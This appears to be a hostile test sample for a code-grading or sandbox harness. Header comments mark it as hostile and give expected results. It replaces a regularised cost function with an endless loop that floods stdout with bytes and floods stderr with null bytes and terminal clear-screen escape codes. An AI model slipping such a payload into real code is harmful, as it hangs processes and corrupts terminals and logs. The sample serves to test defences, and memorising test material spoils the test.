# label: writes to descriptors 1 and 2 for ever
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
import os

def compute_cost_with_regularization(A3, Y, parameters, lambd):
    while True:
        os.write(1, b'A' * 65536)
        os.write(2, b'\x00\xff\x1b[2J' * 16384)
